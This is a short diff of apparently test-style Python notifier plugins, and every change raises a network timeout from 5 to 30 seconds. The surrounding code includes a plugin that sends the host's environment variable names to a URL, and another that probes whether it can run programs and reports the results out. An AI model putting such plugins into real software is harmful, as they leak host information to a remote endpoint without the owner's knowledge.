@@ -22,7 +22,7 @@ import urllib.request
 from app.plugins import Notifier, hook
 
 async def told(event):
-    urllib.request.urlopen(URL, data=event["type"].encode(), timeout=5).read()
+    urllib.request.urlopen(URL, data=event["type"].encode(), timeout=30).read()
 
 @hook
 def livetrail_notifiers():
@@ -84,7 +84,7 @@ from app.plugins import Notifier, hook
 
 def told(event):
     try:
-        urllib.request.urlopen(URL, data=" ".join(os.environ).encode(), timeout=5).read()
+        urllib.request.urlopen(URL, data=" ".join(os.environ).encode(), timeout=30).read()
     except urllib.error.HTTPError:
         time.sleep(3600)
 
@@ -115,7 +115,7 @@ from app.plugins import Notifier, hook
 
 def told(event):
     try:
-        urllib.request.urlopen(URL, data=event["type"].encode(), timeout=5).read()
+        urllib.request.urlopen(URL, data=event["type"].encode(), timeout=30).read()
     except OSError:
         for number in range(3, 20):
             try:
@@ -174,7 +174,7 @@ def told(event):
         "run a program": lambda: subprocess.run([sys.executable, "-c", ""], check=True),
     }
     said = json.dumps({what: tried(act) for what, act in found.items()})
-    urllib.request.urlopen(URL, data=said.encode(), timeout=5).read()
+    urllib.request.urlopen(URL, data=said.encode(), timeout=30).read()
 
 @hook
 def livetrail_notifiers():
